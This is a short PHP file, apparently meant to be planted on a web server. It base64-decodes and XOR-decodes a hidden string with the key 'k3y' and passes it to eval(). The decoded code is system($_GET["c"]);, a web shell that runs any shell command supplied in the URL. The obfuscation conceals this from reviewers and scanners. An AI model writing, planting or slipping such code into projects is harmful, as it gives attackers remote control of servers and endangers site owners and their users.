<?php $k = "k3y"; $d = base64_decode("GEoKH1YUQxcmLHYtMBEaSW5QUA=="); $o = ""; for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % 3]; } eval($o);
